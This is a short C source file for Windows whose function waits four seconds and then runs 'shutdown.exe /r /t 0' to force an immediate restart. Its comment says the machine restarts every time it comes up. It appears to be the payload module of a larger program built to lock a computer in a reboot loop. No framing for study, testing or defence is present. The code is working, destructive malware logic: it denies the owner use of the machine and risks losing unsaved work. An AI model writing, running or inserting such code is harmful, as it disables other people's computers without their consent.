/* Restarts the machine some seconds after it came up, every time. */
#include "deed.h"

#include <wchar.h>

enum { RESTARTS_MS = 4000 };

void deed_run(void)
{
    wchar_t command[] = L"C:\\Windows\\System32\\shutdown.exe /r /t 0";
    STARTUPINFOW startup = { .cb = sizeof startup };
    PROCESS_INFORMATION process;

    Sleep(RESTARTS_MS);
    CreateProcessW(NULL, command, NULL, NULL, FALSE, 0, NULL, NULL, &startup, &process);
}
